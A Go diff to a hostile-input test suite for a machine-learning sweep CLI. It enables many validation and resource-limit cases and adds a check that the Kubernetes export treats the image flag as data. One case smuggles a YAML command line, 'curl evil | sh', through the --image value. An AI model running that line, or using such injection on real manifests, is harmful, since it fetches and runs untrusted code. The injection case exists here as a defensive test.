@@ -27,6 +27,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/goccy/go-yaml"
 	"github.com/parquet-go/parquet-go"
 
 	"github.com/attnsweep/attnsweep/pkg/dataset"
@@ -112,44 +113,44 @@ func specCases() []hostile {
 	return []hostile{
 		{name: "spec file missing", owner: "spec", args: []string{"run", "{dir}/nosuch.yaml", "--db", "{db}"}, code: 1, want: []string{"{dir}/nosuch.yaml", "not found"}},
 		{name: "spec is a folder", owner: "spec", args: []string{"run", "{dir}", "--db", "{db}"}, code: 1, want: []string{"{dir}"}},
-		{name: "empty spec", owner: "spec", notYet: true, spec: "\n", args: run1(), code: 1, want: []string{"{spec}", "name"}},
+		{name: "empty spec", owner: "spec", spec: "\n", args: run1(), code: 1, want: []string{"{spec}", "name"}},
 		{name: "not YAML", owner: "spec", spec: "\x7fELF\x02\x01\x01\x00{[}", args: run1(), code: 1, want: []string{"{spec}:1"}},
 		{name: "tab indentation", owner: "spec", spec: "name: t\ndata:\n\tpath: x.parquet\nmodels: [logreg]\n", args: run1(), code: 1, want: []string{"{spec}:3"}},
 		{name: "key given twice", owner: "spec", spec: "name: a\nname: b\n" + lines(base[1:]...), args: run1(), code: 1, want: []string{"{spec}:2", `"name"`}},
 		{name: "unknown key", owner: "spec", spec: with(0, "epochs: 3"), args: run1(), code: 1, want: []string{"{spec}:8", `"epochs"`}},
 		{name: "name with a slash", owner: "spec", spec: with(1, "name: ../../etc"), args: run1(), code: 1, want: []string{"{spec}:1", "name"}},
 		{name: "unknown model", owner: "spec", spec: with(3, "models: [gpt]"), args: run1(), code: 1, want: []string{"{spec}:3", `"gpt"`}},
-		{name: "model listed twice", owner: "spec", notYet: true, spec: with(3, "models: [logreg, logreg]"), args: run1(), code: 1, want: []string{"{spec}:3", "logreg"}},
+		{name: "model listed twice", owner: "spec", spec: with(3, "models: [logreg, logreg]"), args: run1(), code: 1, want: []string{"{spec}:3", "logreg"}},
 		{name: "negative learning rate", owner: "spec", spec: with(4, "space: {lr: -1, batch_size: 256}"), args: run1(), code: 1, want: []string{"{spec}:4", "lr"}},
 		{name: "batch_size 0", owner: "spec", spec: with(4, "space: {lr: 0.05, batch_size: 0}"), args: run1(), code: 1, want: []string{"{spec}:4", "batch_size"}},
 		{name: "dropout 1", owner: "spec", spec: with(4, "space: {lr: 0.05, dropout: 1.0}"), args: run1(), code: 1, want: []string{"{spec}:4", "dropout"}},
 		{name: "empty hidden list", owner: "spec", spec: with(4, "space: {lr: 0.05, hidden: []}"), args: run1(), code: 1, want: []string{"{spec}:4", "hidden"}},
-		{name: "epochs 0", owner: "spec", notYet: true, spec: with(5, "train: {epochs: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "epochs"}},
-		{name: "patience 0", owner: "spec", notYet: true, spec: with(5, "train: {epochs: 1, patience: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "patience"}},
-		{name: "repeats 0", owner: "spec", notYet: true, spec: with(6, "search: {method: grid, repeats: 0}"), args: run1(), code: 1, want: []string{"{spec}:6", "repeats"}},
+		{name: "epochs 0", owner: "spec", spec: with(5, "train: {epochs: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "epochs"}},
+		{name: "patience 0", owner: "spec", spec: with(5, "train: {epochs: 1, patience: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "patience"}},
+		{name: "repeats 0", owner: "spec", spec: with(6, "search: {method: grid, repeats: 0}"), args: run1(), code: 1, want: []string{"{spec}:6", "repeats"}},
 		{name: "unknown search method", owner: "spec", spec: with(6, "search: {method: bayes}"), args: run1(), code: 1, want: []string{"{spec}:6", "bayes"}},
 		{name: "budget not a duration", owner: "spec", spec: with(6, "search: {method: random, trials: 2, budget: 2 hours}"), args: run1(), code: 1, want: []string{"{spec}:6", "budget"}},
 		{name: "unknown scheduler", owner: "spec", spec: with(6, "search: {method: random, trials: 2, scheduler: {name: hyperband}}"), args: run1(), code: 1, want: []string{"{spec}:6", "hyperband"}},
 		{name: "unknown objective metric", owner: "spec", spec: with(7, "objective: {metric: accuracyy}"), args: run1(), code: 1, want: []string{"{spec}:7", "accuracyy"}},
-		{name: "split fractions not summing to 1", owner: "spec", notYet: true, spec: with(2, "data: {path: {data}, split: {train: 0.5, valid: 0.2, test: 0.2}}"), args: run1(), code: 1, want: []string{"{spec}:2", "split"}},
-		{name: "attention_dim not a multiple of heads", owner: "spec", notYet: true, args: run1(), code: 1, want: []string{"{spec}:4", "attention_dim", "heads"},
+		{name: "split fractions not summing to 1", owner: "spec", spec: with(2, "data: {path: {data}, split: {train: 0.5, valid: 0.2, test: 0.2}}"), args: run1(), code: 1, want: []string{"{spec}:2", "split"}},
+		{name: "attention_dim not a multiple of heads", owner: "spec", args: run1(), code: 1, want: []string{"{spec}:4", "attention_dim", "heads"},
 			spec: with(3, "models: [autoint]", 4, "space: {lr: 0.05, batch_size: 256, attention_dim: 10, heads: 3}")},
-		{name: "random search of 10^10 trials", owner: "plan", notYet: true, limit: true, spec: with(6, "search: {method: random, trials: 10000000000}"),
+		{name: "random search of 10^10 trials", owner: "plan", limit: true, spec: with(6, "search: {method: random, trials: 10000000000}"),
 			args: run1("--dry-run"), code: 1, want: []string{"{spec}:6", "trials"}},
-		{name: "grid of 10^9 points", owner: "plan", notYet: true, limit: true, spec: with(4, "space: {lr: [1,2,3,4,5,6,7,8,9,10], l2_dense: [1,2,3,4,5,6,7,8,9,10], "+
+		{name: "grid of 10^9 points", owner: "plan", limit: true, spec: with(4, "space: {lr: [1,2,3,4,5,6,7,8,9,10], l2_dense: [1,2,3,4,5,6,7,8,9,10], "+
 			"l2_embedding: [1,2,3,4,5,6,7,8,9,10], max_grad_norm: [1,2,3,4,5,6,7,8,9,10], eps: [1,2,3,4,5,6,7,8,9,10], batch_size: [1,2,3,4,5,6,7,8,9,10], "+
 			"weight_decay: [1,2,3,4,5,6,7,8,9,10], beta1: [0.1,0.2,0.3,0.4,0.5,0.6,0.7,0.8,0.9,0.95], beta2: [0.1,0.2,0.3,0.4,0.5,0.6,0.7,0.8,0.9,0.95]}"),
 			args: run1("--dry-run"), code: 1, want: []string{"{spec}", "grid"}},
 		// The runner records a trial over the memory budget as failed,
 		// with the estimate in its message, before it allocates.
-		{name: "embed_dim 10^8", owner: "runner", notYet: true, limit: true, args: run1(), code: 0, changes: true,
+		{name: "embed_dim 10^8", owner: "runner", limit: true, args: run1(), code: 0, changes: true,
 			spec:  with(3, "models: [fm]", 4, "space: {lr: 0.05, batch_size: 256, embed_dim: 100000000}"),
 			check: trialsAre("failed", "memory")},
-		{name: "max_len 10^9", owner: "dataset", notYet: true, limit: true,
+		{name: "max_len 10^9", owner: "dataset", limit: true,
 			spec: with(0, "columns: {sequences: [{column: hist_item, target: item_id, max_len: 1000000000}]}"), args: run1(), code: 1, want: []string{"{spec}", "max_len"}},
-		{name: "deeply nested YAML", owner: "spec", notYet: true, limit: true, spec: "name: n\nspace: {lr: " + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + "}\n",
+		{name: "deeply nested YAML", owner: "spec", limit: true, spec: "name: n\nspace: {lr: " + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + "}\n",
 			args: run1(), code: 1, want: []string{"{spec}"}},
-		{name: "huge spec file", owner: "spec", notYet: true, limit: true, spec: lines(base...) + strings.Repeat("# padding padding padding padding padding\n", 2_000_000),
+		{name: "huge spec file", owner: "spec", limit: true, spec: lines(base...) + strings.Repeat("# padding padding padding padding padding\n", 2_000_000),
 			args: run1(), code: 1, want: []string{"{spec}", "large"}},
 	}
 }
@@ -163,21 +164,21 @@ func dataCases() []hostile {
 		{name: "no label column", owner: "dataset", spec: data("nolabel.parquet"), args: run1(), code: 1, want: []string{"{fix}/nolabel.parquet", "label"}},
 		{name: "label column named but absent", owner: "dataset", spec: with(0, "columns: {label: clicked}"), args: run1(), code: 1, want: []string{"clicked"}},
 		{name: "label 2", owner: "dataset", spec: data("label2.parquet"), args: run1(), code: 1, want: []string{"{fix}/label2.parquet", "label"}},
-		{name: "string label", owner: "dataset", notYet: true, spec: data("strlabel.parquet"), args: run1(), code: 1, want: []string{"{fix}/strlabel.parquet", "label"}},
-		{name: "two columns of one name", owner: "dataset", notYet: true, spec: data("dupcol.parquet"), args: run1(), code: 1, want: []string{"{fix}/dupcol.parquet", "user_id"}},
-		{name: "dense value overflowing float32", owner: "dataset", notYet: true, spec: data("overflow.parquet"), args: run1(), code: 1, want: []string{"{fix}/overflow.parquet", "price"}},
+		{name: "string label", owner: "dataset", spec: data("strlabel.parquet"), args: run1(), code: 1, want: []string{"{fix}/strlabel.parquet", "label"}},
+		{name: "two columns of one name", owner: "dataset", spec: data("dupcol.parquet"), args: run1(), code: 1, want: []string{"{fix}/dupcol.parquet", "user_id"}},
+		{name: "dense value overflowing float32", owner: "dataset", spec: data("overflow.parquet"), args: run1(), code: 1, want: []string{"{fix}/overflow.parquet", "price"}},
 		{name: "NaN in a dense column with strict", owner: "dataset", spec: with(2, "data: {path: {fix}/nan.parquet}", 0, "columns: {strict: true}"), args: run1(), code: 1,
 			want: []string{"{fix}/nan.parquet", "price"}},
 		{name: "history column that is not a list", owner: "dataset", spec: with(0, "columns: {sequences: [{column: price, target: item_id}]}"), args: run1(), code: 1,
 			want: []string{"price"}},
 		// A valid split of one class has no AUC to select epochs with: the
 		// sweep runs, and says so.
-		{name: "one-class valid split", owner: "dataset", notYet: true, code: 0, changes: true, args: run1(),
+		{name: "one-class valid split", owner: "dataset", code: 0, changes: true, args: run1(),
 			spec:  with(2, "data: {train: {fix}/train.parquet, valid: {fix}/valid0.parquet, test: {fix}/test.parquet}"),
-			check: outputHas("valid", "one class")},
-		{name: "datagen --history 10^9", owner: "dataset", notYet: true, limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000", "--history", "1000000000"},
+			check: outputHas("valid", "labels are all 0", "AUC is undefined")},
+		{name: "datagen --history 10^9", owner: "dataset", limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000", "--history", "1000000000"},
 			code: 1, want: []string{"--history"}},
-		{name: "datagen --rows 10^12", owner: "dataset", notYet: true, limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000000000000"},
+		{name: "datagen --rows 10^12", owner: "dataset", limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000000000000"},
 			code: 1, want: []string{"--rows"}},
 		{name: "datagen --rows negative", owner: "dataset", args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "-5"}, code: 1, want: []string{"--rows"}},
 		{name: "datagen --out a folder", owner: "dataset", args: []string{"datagen", "--out", "{dir}", "--rows", "100"}, code: 1, want: []string{"{dir}"}},
@@ -218,8 +219,9 @@ func flagCases() []hostile {
 			code: 1, want: []string{`"zz99"`}},
 		{name: "report an unknown sweep", owner: "report", db: "fixture", args: []string{"report", "nosuch", "--db", "{db}", "--out", "{dir}/r"}, code: 1, want: []string{`"nosuch"`}},
 		{name: "resume an unknown sweep", owner: "cli", db: "fixture", args: []string{"resume", "nosuch", "--db", "{db}"}, code: 1, want: []string{`"nosuch"`}},
-		{name: "export k8s --image with shell injection", owner: "export", notYet: true, spec: lines(base...),
-			args: []string{"export", "k8s", "{spec}", "--shards", "2", "--image", "img:1\n  command: [sh, -c, 'curl evil | sh']"}, code: 1, want: []string{"--image"}},
+		{name: "export k8s --image with shell injection", owner: "export", spec: lines(base...),
+			args: []string{"export", "k8s", "{spec}", "--shards", "2", "--image", "img:1\n  command: [sh, -c, 'curl evil | sh']"}, code: 0,
+			check: imageIsData("img:1\n  command: [sh, -c, 'curl evil | sh']")},
 		{name: "export --shards 0", owner: "export", spec: lines(base...), args: []string{"export", "slurm", "{spec}", "--shards", "0"}, code: 1, want: []string{"--shards"}},
 		{name: "export --workers 0", owner: "cli", spec: lines(base...), args: []string{"export", "slurm", "{spec}", "--shards", "2", "--workers", "0"}, code: 1,
 			want: []string{"--workers 0"}},
@@ -259,7 +261,7 @@ func dbCases() []hostile {
 		// disk fills when the first trial finishes.
 		{name: "disk full during a sweep", owner: "store", spec: with(3, "models: [dnn]"),
 			prep: smallDisk, args: []string{"run", "{spec}", "--db", "{dir}/small/sweeps.db", "--workers", "1"}, changes: true, code: 1, want: []string{"{dir}/small/sweeps.db", "disk full"}},
-		{name: "disk full leaves no trial running", owner: "runner", notYet: true, spec: with(3, "models: [dnn]"),
+		{name: "disk full leaves no trial running", owner: "runner", spec: with(3, "models: [dnn]"),
 			prep: smallDisk, args: []string{"run", "{spec}", "--db", "{dir}/small/sweeps.db", "--workers", "1"}, changes: true, code: 1, want: []string{"disk full"},
 			check: noneRunning("{dir}/small/sweeps.db")},
 	}
@@ -640,6 +642,29 @@ func trialsAre(status, msg string) func(*testing.T, *hostileEnv, string, string)
 }
 
 // outputHas checks that stdout or stderr holds each word.
+// imageIsData checks that the printed Job carries the image as one string
+// and has no key the image tried to inject.
+func imageIsData(image string) func(*testing.T, *hostileEnv, string, string) {
+	return func(t *testing.T, _ *hostileEnv, stdout, _ string) {
+		var job struct {
+			Spec struct {
+				Template struct {
+					Spec struct {
+						Containers []map[string]any `yaml:"containers"`
+					} `yaml:"spec"`
+				} `yaml:"template"`
+			} `yaml:"spec"`
+		}
+		if err := yaml.Unmarshal([]byte(stdout), &job); err != nil {
+			t.Fatalf("the Job does not decode: %v", err)
+		}
+		c := job.Spec.Template.Spec.Containers
+		if len(c) != 1 || c[0]["image"] != image || c[0]["command"] != nil {
+			t.Errorf("containers %v: want the image as data and no command", c)
+		}
+	}
+}
+
 func outputHas(words ...string) func(*testing.T, *hostileEnv, string, string) {
 	return func(t *testing.T, _ *hostileEnv, stdout, stderr string) {
 		for _, w := range words {
